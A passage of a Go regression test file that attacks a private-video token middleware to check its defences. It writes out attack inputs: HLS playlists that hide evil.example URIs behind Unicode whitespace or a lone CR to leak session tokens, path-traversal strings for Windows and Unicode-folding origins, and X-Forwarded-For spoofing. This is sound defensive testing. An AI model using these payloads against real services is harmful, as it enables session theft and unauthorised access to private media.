package privatevideo_test

// An adversarial review of the boundary, written from the attacker's side.
// Each test states what must hold. The ones named TestAttack…Finding
// failed on the code they were written against (7167f1e for the first
// round; 3c3143b/fae4efc, after the first round's fixes, for the tests
// under "Second round" and "Follow-ups") and say why; once fixed they stay
// as regression tests. The others (…Hold) document what held. Attacker classes: (a) only a video ID, (b) a used link,
// (c) one valid session for video A, (d) control of the origin.

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/netip"
	"net/url"
	"path"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/privatevideo/privatevideo"
	"github.com/privatevideo/privatevideo/store"
)

// ---------------------------------------------------------------------------
// One link, many sessions: releases after the session went out.
// ---------------------------------------------------------------------------

// rawOpen sends a GET over its own connection and returns the connection,
// positioned after the response header block, and that block as text. The
// caller hangs up whenever it likes.
func rawOpen(t *testing.T, srvURL, target string) (net.Conn, *bufio.Reader) {
	t.Helper()
	u, _ := url.Parse(srvURL)
	conn, err := net.Dial("tcp", u.Host)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: test-raw\r\n\r\n", target, u.Host)
	return conn, bufio.NewReader(conn)
}

// readHead reads one header block (a 1xx or the final status) from br.
func readHead(t *testing.T, br *bufio.Reader) string {
	t.Helper()
	var b strings.Builder
	for {
		line, err := br.ReadString('\n')
		b.WriteString(line)
		if err != nil {
			t.Fatalf("reading the answer: %v (so far %q)", err, b.String())
		}
		if line == "\r\n" {
			return b.String()
		}
	}
}

// sessionCookieIn returns "name=value" of the session cookie in a header
// block, or "".
func sessionCookieIn(head string) string {
	m := regexp.MustCompile(`(?mi)^Set-Cookie: (` + privatevideo.DefaultCookieName + `=[A-Za-z0-9_-]+)`).FindStringSubmatch(head)
	if m == nil {
		return ""
	}
	return m[1]
}

// waitForState polls the token's state until it is want or d passes, and
// returns the last state seen.
func waitForState(rf *releaseFixture, tok string, want store.State, d time.Duration) store.State {
	deadline := time.Now().Add(d)
	for {
		s := rf.state(tok)
		if s == want || time.Now().After(deadline) {
			return s
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// FINDING (b, a viewer holding one link): behind httputil.ReverseProxy (the
// library's main use and the edge server's proxy mode), a viewer who
// redeems a link, keeps the 200's Set-Cookie and hangs up mid-body makes
// ReverseProxy panic with http.ErrAbortHandler (its copy to the client
// fails, or its origin request is cancelled); passFresh's deferred settle
// counts every panic as "not delivered" and releases the redemption. The
// viewer keeps a 24-hour session and the link is fresh again: passed on,
// one link opens any number of sessions. A handler that panics after its
// status line does the same. The session had gone out with the status
// line; only a redemption whose status line never went out may be
// released.
func TestAttackReleaseAfterSessionWentOutFinding(t *testing.T) {
	t.Run("client hangs up mid-body behind ReverseProxy", func(t *testing.T) {
		up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if !strings.HasSuffix(r.URL.Path, ".mp4") {
				io.WriteString(w, "small asset of "+r.URL.Path)
				return
			}
			w.Header().Set("Content-Type", "video/mp4")
			chunk := bytes.Repeat([]byte("m"), 32<<10)
			for i := 0; i < 4000 && r.Context().Err() == nil; i++ { // 128 MiB, slowly
				if _, err := w.Write(chunk); err != nil {
					return
				}
				http.NewResponseController(w).Flush()
				time.Sleep(2 * time.Millisecond)
			}
		}))
		defer up.Close()
		target, _ := url.Parse(up.URL)
		done := make(chan struct{}, 8)
		proxy := &httputil.ReverseProxy{
			Rewrite:  func(pr *httputil.ProxyRequest) { pr.SetURL(target) },
			ErrorLog: log.New(io.Discard, "", 0),
		}
		h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			defer func() { done <- struct{}{} }()
			proxy.ServeHTTP(w, r)
		})
		rf := newReleaseFixture(t, h)
		tok := rf.issue("v1")

		conn, br := rawOpen(t, rf.srv.URL, tokenPath("v1", tok, "mp4/source.mp4"))
		head := readHead(t, br)
		cookie := sessionCookieIn(head)
		if !strings.HasPrefix(head, "HTTP/1.1 200") || cookie == "" {
			conn.Close()
			t.Fatalf("the redemption: %q, want a 200 with the session", head)
		}
		io.ReadFull(br, make([]byte, 64<<10)) // some of the private bytes
		conn.Close()                          // and hang up
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			t.Fatal("the proxied answer never ended")
		}
		state := waitForState(rf, tok, store.Issued, 300*time.Millisecond) // settle runs right after the handler

		// The viewer's session plays, whatever happened to the token.
		status, _, body := rawRequest(t, rf.srv.URL, "GET", tokenPath("v1", tok, "thumbnail.jpg"), "Cookie", cookie)
		if status != http.StatusOK || !bytes.Contains(body, []byte("small asset")) {
			t.Fatalf("the viewer's kept session: %d %q", status, body)
		}
		if state != store.Redeemed {
			friend := rf.get(rf.browser("friend"), tokenPath("v1", tok, "thumbnail.jpg"))
			t.Fatalf("the session went out with a 200, yet the redemption was released (releases %v); the token is %v "+
				"and another browser opening the same link gets %d: one link, two sessions", rf.causes(), state, friend.status)
		}
	})

	t.Run("handler panics after its status line", func(t *testing.T) {
		h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if strings.HasSuffix(r.URL.Path, "/broken.mp4") {
				w.Header().Set("Content-Type", "video/mp4")
				w.WriteHeader(http.StatusOK)
				w.Write(bytes.Repeat([]byte("m"), 4096))
				http.NewResponseController(w).Flush()
				panic("the packager broke mid-stream")
			}
			mediaHandler().ServeHTTP(w, r)
		})
		rf := newReleaseFixture(t, h)
		tok := rf.issue("v1")
		b := rf.browser("viewer")
		req, _ := http.NewRequest(http.MethodGet, rf.srv.URL+tokenPath("v1", tok, "broken.mp4"), nil)
		if resp, err := b.Do(req); err == nil {
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
		}
		wantOK(t, "the viewer's session (the cookie came with the 200)", rf.get(b, tokenPath("v1", tok, "a.ts")))
		if s := rf.state(tok); s != store.Redeemed {
			friend := rf.get(rf.browser("friend"), tokenPath("v1", tok, "a.ts"))
			t.Fatalf("released after a 200 carried the session (releases %v): token %v, another browser gets %d",
				rf.causes(), s, friend.status)
		}
	})
}

// FINDING (b, with any handler or origin that sends 1xx, such as 103 Early
// Hints; ReverseProxy forwards an origin's 1xx): gated.WriteHeader passes a
// 1xx straight through, and net/http writes the whole header map with it,
// the session's Set-Cookie included. The redemption is still "not
// delivered" (no final status), so when the client then hangs up, or the
// handler then answers 5xx, it is released: the client holds a session and
// the link is fresh again.
func TestAttackEarlyHintsCarrySessionFinding(t *testing.T) {
	done := make(chan struct{}, 1)
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, "/hinted.mp4") {
			defer func() { done <- struct{}{} }()
			w.Header().Set("Link", "</vod/v1/poster.jpg>; rel=preload; as=image")
			w.WriteHeader(http.StatusEarlyHints)
			<-r.Context().Done() // an origin still thinking
			return
		}
		mediaHandler().ServeHTTP(w, r)
	})
	rf := newReleaseFixture(t, h)
	tok := rf.issue("v1")
	conn, br := rawOpen(t, rf.srv.URL, tokenPath("v1", tok, "hinted.mp4"))
	hint := readHead(t, br)
	conn.Close()
	cookie := sessionCookieIn(hint)
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("the handler never saw the client leave")
	}
	state := waitForState(rf, tok, store.Issued, 300*time.Millisecond)
	if cookie == "" {
		return // the session did not leave with the 1xx: holds
	}
	status, _, _ := rawRequest(t, rf.srv.URL, "GET", tokenPath("v1", tok, "a.ts"), "Cookie", cookie)
	if state != store.Redeemed || status != http.StatusOK {
		t.Fatalf("a 103 carried the session (%s…) to a client that then hung up; the session plays (%d) and the "+
			"redemption was released (%v, token %v): the link opens again for anyone", cookie[:20], status, rf.causes(), state)
	}
	t.Fatalf("a 103 carried the session: %q", hint)
}

// ---------------------------------------------------------------------------
// The playlist rewriter against the players' own line reading.
// ---------------------------------------------------------------------------

// jsSpace is JavaScript's white space (String.prototype.trim, \s): Go's
// unicode.IsSpace without U+0085, plus U+FEFF.
func jsSpace(r rune) bool { return r != 0x85 && unicode.IsSpace(r) || r == 0xfeff }

var playerLineBreak = regexp.MustCompile(`\r\n|\r|\n`)

// playerURIs returns the URIs a player reads in a playlist, the way the
// common players read lines before they ever parse a URL:
//   - Shaka normalises "\r\n" and a lone "\r" to "\n" before splitting
//     lines, and trims each URI line with String.prototype.trim (which
//     strips Unicode white space: U+00A0, U+FEFF, U+2028, U+3000…);
//   - ExoPlayer reads lines with BufferedReader.readLine (LF, CR or CRLF
//     end a line) and trims them;
//   - hls.js takes a segment URI as the first non-white-space run up to CR
//     or LF (its regex skips what \S does not match, NBSP and BOM included),
//     and a tag's attributes up to CR or LF.
//
// URI lines are trimmed of JavaScript white space; tags give their URI="…".
func playerURIs(body string) []string {
	var out []string
	for _, l := range playerLineBreak.Split(body, -1) {
		l = strings.TrimFunc(l, jsSpace)
		switch {
		case l == "":
		case strings.HasPrefix(l, "#"):
			if m := uriAttr.FindStringSubmatch(l); m != nil {
				out = append(out, m[1])
			}
		default:
			out = append(out, l)
		}
	}
	return out
}

// sessionSentAway returns the URIs that carry the session parameter and
// resolve, against the playlist's URL, to another host than its own.
func sessionSentAway(t *testing.T, playlistURL string, body string) []string {
	t.Helper()
	base, _ := url.Parse(playlistURL)
	var away []string
	for _, u := range playerURIs(body) {
		if !strings.Contains(u, "avh=") {
			continue
		}
		ref, err := url.Parse(strings.ReplaceAll(u, `\`, "/"))
		if err != nil {
			away = append(away, u+" (unparsable: "+err.Error()+")")
			continue
		}
		if r := base.ResolveReference(ref); !strings.EqualFold(r.Host, base.Host) {
			away = append(away, r.Host+" <- "+u)
		}
	}
	return away
}

func fetchPlaylist(t *testing.T, body string) (string, string) {
	t.Helper()
	u := playlistServer(t, []byte(body), "")
	resp, out, err := fetchRaw(t, u)
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("playlist: %d %v", resp.StatusCode, err)
	}
	if !bytes.Contains(out, []byte("avh=")) {
		t.Fatalf("the playlist was not rewritten at all:\n%s", out)
	}
	return u, string(out)
}

// FINDING (d, or anyone who writes a playlist): a URI line that starts with
// Unicode white space (NBSP, BOM, U+3000, U+2028) before an absolute URL on
// another host. ours() sees a relative reference (WHATWG keeps U+00A0 as
// part of the path), so the session token is appended; hls.js and Shaka
// strip that white space while reading the line and fetch
// https://evil.example/…?avh=<session>. playlist.go ours()/whatwgClean only
// strip bytes <= 0x20.
func TestAttackPlaylistUnicodeSpaceSendsSessionAwayFinding(t *testing.T) {
	body := "#EXTM3U\n#EXT-X-TARGETDURATION:2\n" +
		"#EXTINF:2,\nhttps://evil.example/plain.ts\n" + // the control: never gets it
		"#EXTINF:2,\n\u00a0https://evil.example/nbsp.ts\n" +
		"#EXTINF:2,\n\ufeffhttps://evil.example/bom.ts\n" +
		"#EXTINF:2,\n\u3000//evil.example/ideographic-space.ts\n" +
		"#EXTINF:2,\n\u2028https://evil.example/line-separator.ts\n" +
		"#EXTINF:2,\nseg1.ts\n#EXT-X-ENDLIST\n"
	u, out := fetchPlaylist(t, body)
	if away := sessionSentAway(t, u, out); len(away) > 0 {
		t.Fatalf("a player reading this playlist sends the session token to another host:\n  %s\nplaylist:\n%q",
			strings.Join(away, "\n  "), out)
	}
}

// FINDING (d): a lone CR inside a URI line or a tag's URI="…". The streamed
// rewriter (rewrite.go take) cuts lines at LF only and ours() drops the CR
// as WHATWG does inside a URL, so "seg/\rhttps://evil.example/x.ts" is one
// relative URI to it and gets the session token at its end; Shaka and
// ExoPlayer end the line at the CR and read "https://evil.example/x.ts?avh=…"
// as the next URI, and hls.js reads the rest of a tag cut at a CR as a
// segment URI.
func TestAttackPlaylistLoneCRSendsSessionAwayFinding(t *testing.T) {
	body := "#EXTM3U\n#EXT-X-TARGETDURATION:2\n" +
		"#EXT-X-MAP:URI=\"init/\r//evil.example/init.mp4\"\n" +
		"#EXTINF:2,\nseg/\rhttps://evil.example/cr.ts\n" +
		"#EXT-X-KEY:METHOD=AES-128,URI=\"k/\rhttps://evil.example/key\"\n" +
		"#EXTINF:2,\nseg2.ts\n#EXT-X-ENDLIST\n"
	u, out := fetchPlaylist(t, body)
	if away := sessionSentAway(t, u, out); len(away) > 0 {
		t.Fatalf("a player that ends lines at CR sends the session token to another host:\n  %s\nplaylist:\n%q",
			strings.Join(away, "\n  "), out)
	}
}

// HOLDS: the tag and line tricks that a player reads the same way as the
// rewriter: duplicate URI attributes, unquoted URIs, lower-case tags, C0
// and ASCII white space around a URI, quote games, URIs after "#".
func TestAttackPlaylistTagTricksHold(t *testing.T) {
	body := "#EXTM3U\n#EXT-X-TARGETDURATION:2\n" +
		"#EXT-X-KEY:METHOD=AES-128,URI=\"https://evil.example/k1\",URI=\"k.bin\"\n" +
		"#EXT-X-KEY:METHOD=AES-128,URI=https://evil.example/k2\n" +
		"#ext-x-key:METHOD=AES-128,URI=\"https://evil.example/k3\"\n" +
		"#EXT-X-MAP:X=\"a,URI=\\\"https://evil.example/\",URI=\"init.mp4\"\n" +
		"#EXT-X-MAP:URI=\"rel\"https://evil.example/m\"\n" +
		"#EXT-X-PART:DURATION=1,URI= \"https://evil.example/p\"\n" +
		"#EXTINF:2,\n\thttps://evil.example/tab.ts\n" +
		"#EXTINF:2,\n\x0bhttps://evil.example/vt.ts\n" +
		"#EXTINF:2,\n\x0chttps://evil.example/ff.ts\n" +
		"#EXTINF:2,\n\x01https://evil.example/c0.ts\n" +
		"#EXTINF:2,\nhttps://evil.example/x.ts#https://127.0.0.1/\n" +
		"#EXTINF:2,\n  #https://evil.example/comment.ts\n" +
		"#EXTINF:2,\nseg1.ts\n#EXT-X-ENDLIST\n"
	u, out := fetchPlaylist(t, body)
	if away := sessionSentAway(t, u, out); len(away) > 0 {
		t.Fatalf("the session token goes to another host:\n  %s\nplaylist:\n%q", strings.Join(away, "\n  "), out)
	}
}

// ---------------------------------------------------------------------------
// Non-redeeming requests: Origin.
// ---------------------------------------------------------------------------

// FINDING (anyone who can make a browser fetch a link: a page on another
// origin, a misconfigured cross-origin player): DESIGN.md, "Players on
// other origins": "a request whose Origin is neither the page's own nor
// allowed is refused before redemption and spends nothing (the browser
// would hide the answer from the player)". Nothing in serve looks at
// Origin beyond writing CORS headers (cors.go apply), so a cross-origin
// fetch from an unlisted origin redeems the token and its answer is then
// hidden by the browser: the link is burnt and nobody can play it.
func TestAttackForeignOriginBurnsLinkFinding(t *testing.T) {
	t.Run("WithCORS lists another origin", func(t *testing.T) {
		f := newFixture(t, privatevideo.WithCORS("https://player.example"))
		ok := f.issue("v1")
		wantOK(t, "the listed origin", f.get(f.player("p"), tokenPath("v1", ok, "a.ts"), "Origin", "https://player.example"))
		tok := f.issue("v1")
		res := f.get(f.player("p"), tokenPath("v1", tok, "a.ts"), "Origin", "https://evil.example")
		if s := f.state(tok); s != store.Issued || res.status == http.StatusOK {
			t.Fatalf("a fetch from an unlisted origin: %d, token %v; want it refused before redemption, token issued", res.status, s)
		}
	})
	t.Run("no CORS: only the page's own origin", func(t *testing.T) {
		f := newFixture(t)
		own := f.issue("v1")
		wantOK(t, "the page's own origin", f.get(f.player("p"), tokenPath("v1", own, "a.ts"), "Origin", f.srv.URL))
		tok := f.issue("v1")
		res := f.get(f.player("p"), tokenPath("v1", tok, "session"), "Origin", "https://evil.example")
		if s := f.state(tok); s != store.Issued || res.status == http.StatusOK {
			t.Fatalf("a cross-origin request: %d, token %v; want it refused before redemption, token issued", res.status, s)
		}
	})
}

// ---------------------------------------------------------------------------
// Paths that a Windows origin, or a lenient Unicode one, reads as /vod/.
// ---------------------------------------------------------------------------

// windowsOrigin reads paths as IIS, or Go's own http.FileServer on Windows,
// end up reading them through Win32 path normalisation: backslash is a
// slash, case is ignored, a segment's trailing period is removed ("vod." is
// "vod"), and an NTFS stream suffix on a directory ("vod::$INDEX_ALLOCATION")
// names the directory itself.
func windowsOrigin() *origin {
	return &origin{name: "windows", resolve: func(raw string) string {
		// Relative segments first, then the trailing period of a segment
		// ("..." and longer runs of periods are names, not ".."): the order
		// of Win32's GetFullPathName.
		p := path.Clean(strings.ReplaceAll(unescapeAll(raw), `\`, "/"))
		segs := strings.Split(p, "/")
		for i, s := range segs {
			if j := strings.Index(strings.ToLower(s), "::$index_allocation"); j >= 0 {
				s = s[:j]
			}
			if strings.Trim(s, ".") != "" && strings.HasSuffix(s, ".") {
				s = strings.TrimSuffix(s, ".")
			}
			segs[i] = s
		}
		return strings.ToLower(strings.Join(segs, "/"))
	}}
}

// unicodeOrigin reads paths as a lenient UTF-8 decoder with compatibility
// folding does (Tomcat before 6.0.18, CVE-2008-2938; NFKC-normalising
// frameworks): overlong encodings of ASCII ("%c0%ae" is ".") and fullwidth
// forms ("ｖ" is "v", "／" is "/") are their ASCII letters.
func unicodeOrigin() *origin {
	return &origin{name: "unicode-folding", resolve: func(raw string) string {
		b := []byte(lenientUnescapeAll(raw))
		var out []byte
		for i := 0; i < len(b); i++ {
			switch {
			case i+1 < len(b) && (b[i] == 0xc0 || b[i] == 0xc1) && b[i+1]&0xc0 == 0x80:
				out = append(out, (b[i]&0x1f)<<6|b[i+1]&0x3f)
				i++
			case i+2 < len(b) && b[i] == 0xe0 && b[i+1] < 0xa0 && b[i+1]&0xc0 == 0x80 && b[i+2]&0xc0 == 0x80:
				out = append(out, (b[i+1]&0x3f)<<6|b[i+2]&0x3f)
				i += 2
			case i+2 < len(b) && b[i] == 0xef && (b[i+1] == 0xbc || b[i+1] == 0xbd):
				r := rune(b[i+1]&0x3f)<<6 | rune(b[i+2]&0x3f) | 0xf000
				if r >= 0xff01 && r <= 0xff5e {
					out = append(out, byte(r-0xff01+0x21))
					i += 2
					continue
				}
				out = append(out, b[i])
			default:
				out = append(out, b[i])
			}
		}
		return path.Clean(string(out))
	}}
}

func lenientUnescapeAll(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '%' && i+2 < len(s) {
			var v byte
			if _, err := fmt.Sscanf(s[i+1:i+3], "%02x", &v); err == nil {
				b.WriteByte(v)
				i += 2
				continue
			}
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// proxyTo serves mw over a ReverseProxy to o.
func proxyTo(t *testing.T, o *origin) (*privatevideo.Middleware, *httptest.Server) {
	t.Helper()
	up := httptest.NewServer(o)
	t.Cleanup(up.Close)
	target, _ := url.Parse(up.URL)
	proxy := &httputil.ReverseProxy{Rewrite: func(pr *httputil.ProxyRequest) { pr.SetURL(target) }}
	mw, err := privatevideo.New([]privatevideo.Key{newKey(t)}, privatevideo.WithInsecureCookies())
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(mw.Handler(proxy))
	t.Cleanup(srv.Close)
	return mw, srv
}

// FINDING (a: only a video ID), with a Windows origin: IIS, or Go's own
// http.FileServer(http.Dir(`C:\media`)) on Windows, whose os.Open goes
// through Win32 normalisation. "/vod./b/mp4/source.mp4" is not under
// "/vod/" as Go reads it, and readsAsPrefix (layout.go) models case,
// backslash, ";params", double decoding and dot segments but not a
// segment's trailing dot or an NTFS stream suffix; the request passes as
// "not ours", untouched, and the origin serves video b's bytes to a client
// with no token and no session.
func TestAttackWindowsOriginPrefixFinding(t *testing.T) {
	o := windowsOrigin()
	_, srv := proxyTo(t, o)
	var leaked []string
	for _, p := range []string{
		"/vod./b/mp4/source.mp4",
		"/VOD./b/mp4/source.mp4",
		"/vod%2e/b/mp4/source.mp4",
		`/vod.\b\mp4\source.mp4`,
		"/vod::$INDEX_ALLOCATION/b/mp4/source.mp4",
		"/x/../vod./b/mp4/source.mp4",
	} {
		status, _, body := rawRequest(t, srv.URL, "GET", p)
		if bytes.Contains(body, []byte("video b")) {
			leaked = append(leaked, fmt.Sprintf("%s -> %d %q", p, status, body))
		}
	}
	if len(leaked) > 0 {
		t.Fatalf("no token, no session, and a Windows origin serves the private video:\n  %s", strings.Join(leaked, "\n  "))
	}
}

// FINDING (a), low: origins that decode overlong UTF-8 or fold fullwidth
// forms read these as /vod/b/…; they pass as not ours. Modern servers
// refuse overlong UTF-8, so this needs an old or unusual origin.
func TestAttackUnicodeFoldingOriginPrefixFinding(t *testing.T) {
	o := unicodeOrigin()
	_, srv := proxyTo(t, o)
	var leaked []string
	for _, p := range []string{
		"/x/%c0%ae%c0%ae/vod/b/mp4/source.mp4",
		"/x/%e0%80%ae%e0%80%ae/vod/b/mp4/source.mp4",
		"/%ef%bd%96od/b/mp4/source.mp4",
		"/vod%ef%bc%8fb/mp4/source.mp4",
		"/x/%ef%bc%8e%ef%bc%8e/vod/b/mp4/source.mp4",
		"/x%c0%af..%c0%afvod/b/mp4/source.mp4",
	} {
		status, _, body := rawRequest(t, srv.URL, "GET", p)
		if bytes.Contains(body, []byte("video b")) {
			leaked = append(leaked, fmt.Sprintf("%s -> %d %q", p, status, body))
		}
	}
	if len(leaked) > 0 {
		t.Fatalf("no token, and an origin that folds Unicode serves the private video:\n  %s", strings.Join(leaked, "\n  "))
	}
}

// HOLDS (c): inside a video, the Windows and Unicode readings cannot climb
// to another video: the asset grammar refuses non-ASCII, and a trailing dot
// only renames a segment within the video.
func TestAttackWindowsAndUnicodeInsideTheVideoHold(t *testing.T) {
	for _, o := range []*origin{windowsOrigin(), unicodeOrigin()} {
		t.Run(o.name, func(t *testing.T) {
			mw, srv := proxyTo(t, o)
			f := &fixture{t: t, mw: mw, srv: srv}
			sess := redeemSession(t, f, "a", mustIssue(t, mw, "a"))
			tok := mustIssue(t, mw, "a")
			for _, climb := range []string{
				"%c0%ae%c0%ae/b/mp4/source.mp4", "hls/%c0%ae%c0%ae/%c0%ae%c0%ae/b/x", "%e0%80%ae%e0%80%ae/b/x",
				"%ef%bc%8e%ef%bc%8e/b/x", "..%c0%afb/x", "..%ef%bc%8fb/x", "...%5c..%5cb/x", ".../b/x",
				"..::$INDEX_ALLOCATION/b/x", "..%2e/b/x", "hls/.../.../b/x", "token./" + tok + "/x",
			} {
				for _, target := range []string{"/vod/a/" + climb + "?avh=" + sess, tokenPath("a", tok, climb) + "?avh=" + sess} {
					status, _, body := rawRequest(t, srv.URL, "GET", target)
					if bytes.Contains(body, []byte("video b")) || bytes.Contains(body, []byte("video B")) {
						t.Fatalf("%s: %d %q: a session of a read video b", target, status, body)
					}
				}
			}
			o.mu.Lock()
			defer o.mu.Unlock()
			for _, p := range o.seen {
				if !strings.HasPrefix(p, "/vod/a/") {
					t.Fatalf("the origin resolved %q, outside video a", p)
				}
			}
		})
	}
}

// ---------------------------------------------------------------------------
// The grace window and forwarded addresses.
// ---------------------------------------------------------------------------

// FINDING (b, same User-Agent, behind a named proxy that writes ports):
// some load balancers (Azure Application Gateway, IIS ARR) write
// "X-Forwarded-For: 203.0.113.7:5555". clientIP (client.go) stops at the
// first hop netip.ParseAddr refuses and returns the trusted proxy's own
// address, so every viewer behind it is one client: within the grace
// window anyone with the redeemer's User-Agent gets the same session, even
// though the operator named the proxy as the docs say.
func TestAttackForwardedForWithPortFinding(t *testing.T) {
	f := newFixture(t, privatevideo.WithTrustedProxies(netip.MustParsePrefix("127.0.0.0/8")))
	tok := f.issue("v1")
	wantOK(t, "the redeemer", f.get(f.player("same-ua"), tokenPath("v1", tok, "a.ts"), "X-Forwarded-For", "203.0.113.7:5555"))
	res := f.get(f.player("same-ua"), tokenPath("v1", tok, "a.ts"), "X-Forwarded-For", "198.51.100.9:6666")
	if res.status == http.StatusOK {
		t.Fatalf("another viewer (198.51.100.9, same User-Agent) got the redeemer's session through the grace window: " +
			"X-Forwarded-For with ports makes every viewer the proxy")
	}
	wantDenied(t, "another viewer", res, http.StatusForbidden, "token-used")
}

// HOLDS: the client's own X-Forwarded-For entries count for nothing: only
// the hop the trusted proxy appended identifies it.
func TestAttackSpoofedForwardedForHolds(t *testing.T) {
	f := newFixture(t, privatevideo.WithTrustedProxies(netip.MustParsePrefix("127.0.0.0/8")))
	tok := f.issue("v1")
	wantOK(t, "the redeemer", f.get(f.player("ua"), tokenPath("v1", tok, "a.ts"), "X-Forwarded-For", "203.0.113.7"))
	// The attacker writes the redeemer's address; the proxy appends theirs.
	wantDenied(t, "spoofed XFF", f.get(f.player("ua"), tokenPath("v1", tok, "a.ts"), "X-Forwarded-For", "203.0.113.7, 198.51.100.9"),
		http.StatusForbidden, "token-used")
	// Without trusted proxies XFF is ignored altogether.
	g := newFixture(t, privatevideo.WithGrace(5*time.Second))
	tok2 := g.issue("v1")
	wantOK(t, "the redeemer", g.get(g.player("ua"), tokenPath("v1", tok2, "a.ts"), "X-Forwarded-For", "203.0.113.7"))
	wantDenied(t, "other User-Agent, same XFF", g.get(g.player("other"), tokenPath("v1", tok2, "a.ts"), "X-Forwarded-For", "203.0.113.7"),
		http.StatusForbidden, "token-used")
}

// ---------------------------------------------------------------------------
// Caching.
// ---------------------------------------------------------------------------

// FINDING (b, with a shared cache in front), low: privateCacheControl
// (response.go) keeps the handler's Cache-Control untouched as soon as the
// word "private" appears in it. `private="Set-Cookie"` is the qualified
// form (RFC 9111 5.2.2.7): only the named field is private and a shared
// cache may store the rest; with `s-maxage` beside it, a CDN that follows
// the RFC keeps the private video's bytes for a day under the token's URL,
// and the used link then plays from the cache.
func TestAttackQualifiedPrivateCacheControlFinding(t *testing.T) {
	f := newFixture(t)
	sess := redeemSession(t, f, "v1", f.issue("v1"))
	for _, cc := range []string{`s-maxage=86400, private="Set-Cookie"`, `public, max-age=3600, x-private-hint`} {
		res := f.get(f.player("p"), "/vod/v1/a.ts?avh="+sess+"&set-cache-control="+url.QueryEscape(cc))
		wantOK(t, cc, res)
		got := strings.ToLower(res.header.Get("Cache-Control"))
		unqualified := regexp.MustCompile(`(^|,)\s*(private|no-store)\s*(,|$)`).MatchString(got)
		if !unqualified || strings.Contains(got, "s-maxage") || strings.Contains(got, "public") {
			t.Errorf("handler's %q went out as %q: a shared cache may store this private answer", cc, got)
		}
	}
}

// ---------------------------------------------------------------------------
// Logs.
// ---------------------------------------------------------------------------

// leakyStore fails every redemption with an error that names its key, as
// a store written with fmt.Errorf("…%s…", key) does.
type leakyStore struct{ store.Store }

func (s leakyStore) Redeem(ctx context.Context, req store.RedeemRequest) (store.Redemption, error) {
	return store.Redemption{}, fmt.Errorf("kv: GET pv:%s: %w", req.Token, errors.New("i/o timeout"))
}

// FINDING, low (a store written by a third party): the decision log writes
// a store failure's cause verbatim (decision.go log, "cause"), and the
// release log its error; a store error that names its key puts the whole
// token in the log. The middleware knows the token it is logging about and
// could redact it from the cause.
func TestAttackStoreErrorPutsTokenInLogFinding(t *testing.T) {
	var logs bytes.Buffer
	var mu sync.Mutex
	logger := slog.New(slog.NewJSONHandler(lockedWriter{&mu, &logs}, &slog.HandlerOptions{Level: slog.LevelDebug}))
	mw, err := privatevideo.New([]privatevideo.Key{newKey(t)}, privatevideo.WithInsecureCookies(),
		privatevideo.WithStore(leakyStore{store.NewMemory(0)}), privatevideo.WithLogger(logger))
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(mw.Handler(mediaHandler()))
	defer srv.Close()
	tok := privatevideo.NewToken()
	status, _, body := rawRequest(t, srv.URL, "GET", tokenPath("v1", tok, "a.ts"))
	if status != http.StatusServiceUnavailable || bytes.Contains(body, []byte(tok)) {
		t.Fatalf("%d %q, want 503 without the token", status, body)
	}
	mu.Lock()
	defer mu.Unlock()
	if strings.Contains(logs.String(), tok) {
		t.Fatalf("the whole token is in the log:\n%s", logs.String())
	}
}

type lockedWriter struct {
	mu *sync.Mutex
	w  io.Writer
}

func (l lockedWriter) Write(b []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.w.Write(b)
}

// HOLDS: with the built-in store, no denial, no log line and no decision
// carries a whole token or a session token, whatever is sent.
func TestAttackNoCredentialInDenialsOrLogsHolds(t *testing.T) {
	var logs bytes.Buffer
	var mu sync.Mutex
	logger := slog.New(slog.NewJSONHandler(lockedWriter{&mu, &logs}, &slog.HandlerOptions{Level: slog.LevelDebug}))
	f := newFixture(t, privatevideo.WithLogger(logger), privatevideo.WithRevocationCheck(privatevideo.KeepPlaying))
	used := f.issue("v1")
	sess := redeemSession(t, f, "v1", used)
	other := f.issue("v2")
	unused := f.issue("v1")
	secrets := []string{used, sess, other, unused}
	for _, c := range []struct {
		method, target string
		header         []string
	}{
		{"GET", tokenPath("v1", used, "a.ts"), nil},
		{"GET", tokenPath("v1", other, "a.ts"), nil},
		{"HEAD", tokenPath("v1", unused, "a.ts"), nil},
		{"GET", "/vod/v2/a.ts?avh=" + sess, nil},
		{"GET", "/vod/v1/a.ts?avh=" + sess[:len(sess)-2] + "AA", nil},
		{"GET", tokenPath("v1", unused, "a.ts") + "?token=" + used, nil},
		{"PUT", tokenPath("v1", unused, "a.ts"), nil},
		{"GET", tokenPath("v1", used, "a.ts"), []string{"Accept", "text/html", "Sec-Fetch-Dest", "document"}},
		{"GET", "/vod/v1?token=" + unused, []string{"User-Agent", "Slackbot"}},
		{"GET", "/vod/v1/a.ts?token=" + unused, nil},
		{"OPTIONS", tokenPath("v1", unused, "a.ts"), nil},
	} {
		status, hdr, body := rawRequest(t, f.srv.URL, c.method, c.target, c.header...)
		for _, s := range secrets {
			if status != http.StatusOK && status != http.StatusTemporaryRedirect && bytes.Contains(body, []byte(s)) {
				t.Fatalf("%s %s: %d: the denial's body holds a credential", c.method, c.target, status)
			}
			for k, vs := range hdr {
				for _, v := range vs {
					if strings.Contains(v, s) && !(k == "Location" && s == unused) {
						t.Fatalf("%s %s: %d: header %s holds a credential: %q", c.method, c.target, status, k, v)
					}
				}
			}
		}
	}
	mu.Lock()
